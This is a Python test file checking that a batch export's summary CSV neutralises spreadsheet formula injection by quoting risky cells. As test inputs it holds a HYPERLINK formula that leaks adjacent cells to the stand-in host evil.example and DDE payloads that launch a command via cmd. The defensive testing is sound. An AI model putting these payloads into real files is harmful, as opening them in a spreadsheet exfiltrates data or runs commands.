"""batches/<id>/summary.csv opens safely in a spreadsheet: no cell runs as a formula."""

from __future__ import annotations

import csv
import io

from job_support import export_body, run_job, runtime_on_fakeredis

from worker.config import load_settings
from worker.deliverable import csv_cells
from worker.flow import batches
from worker.flow.batch_file import BatchItem
from worker.flow.runtime import Runtime
from worker.model import batch_store
from worker.model.jobs import ExportOptions

#: A data subject's export key that leaks the next rows' keys when the DPO clicks it.
LEAKY = '=HYPERLINK("https://evil.example/?leak="&A3&A4,"details")'
#: Merged keys come from APSIS's data: just as untrusted.
MERGED = ["@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]


def _runtime() -> Runtime:
    settings = load_settings(
        CALLBACK_SECRET="T3ZqZ0tXbXlVb0VjZ1pSd0Nqc2F0ZXN0LW9ubHk4NzY1",
        STORAGE_URL="memory:///",
        APSIS_CLIENT_ID="id",
        APSIS_CLIENT_SECRET="Zk8qR2vLx0pW7mN3",
    )
    return runtime_on_fakeredis(settings)


def test_formula_cells_in_the_summary_are_shown_as_text() -> None:
    rt = _runtime()
    keys = [LEAKY, "+44 20 7946 0000", "ann@example.com"]
    items = [
        BatchItem(export_key=keys[0], reference="@ticket"),
        BatchItem(export_key=keys[1], reference="\tTAB-1"),
        BatchItem(export_key=keys[2], reference="DSAR-3"),
    ]
    assert batches.create(rt, "b1", items, options=ExportOptions())
    for index, item in enumerate(items):  # as the feeder creates them, with the references
        rt.jobs.create(
            batch_store.job_id_for("b1", index),
            export_key=item.export_key,
            account=rt.settings.APSIS_ACCOUNT,
            options=ExportOptions(),
            deadline_seconds=3600,
            reference=item.reference,
            batch_id="b1",
        )
    first = export_body(LEAKY, merged=MERGED)
    run_job(rt, batch_store.job_id_for("b1", 0), export_key=LEAKY, batch_id="b1", body=first)
    for index in (1, 2):
        run_job(rt, batch_store.job_id_for("b1", index), export_key=keys[index], batch_id="b1")
    rt.redis.hset(batch_store.batch_key("b1"), "submitted", 3)
    assert batches.finalize(rt, "b1", lambda chain, result: None)

    text = rt.storage.get_bytes(batches.summary_object("b1")).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["state"] for row in rows] == ["done", "done", "done"]
    assert rows[0]["export_key"] == "'" + LEAKY
    assert rows[0]["reference"] == "'@ticket"
    assert rows[0]["merged_keys_found"] == ";".join("'" + key for key in MERGED)
    assert rows[1]["export_key"] == "'+44 20 7946 0000"
    assert rows[1]["reference"] == "'\tTAB-1"
    assert rows[2]["export_key"] == "ann@example.com"  # harmless cells are unchanged
    # Each done job's row names its package, for `apsis-export link`.
    assert [row["package"] for row in rows] == [
        f"jobs/{batch_store.job_id_for('b1', n)}/package.zip" for n in range(3)
    ]
    # No cell of the file starts a formula, and every cell is quoted.
    for line in text.splitlines():
        assert line.startswith('"') and line.endswith('"')
    for record in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(csv_cells.FORMULA_STARTS) for cell in record)


def test_neutralise_prefixes_exactly_the_formula_starts() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cells.neutralise(start + "1+1") == "'" + start + "1+1"
    for harmless in ("", "1", "a=b", " =1", "'=1", "ann@example.com"):
        assert csv_cells.neutralise(harmless) == harmless
    assert csv_cells.neutralise(None) == ""
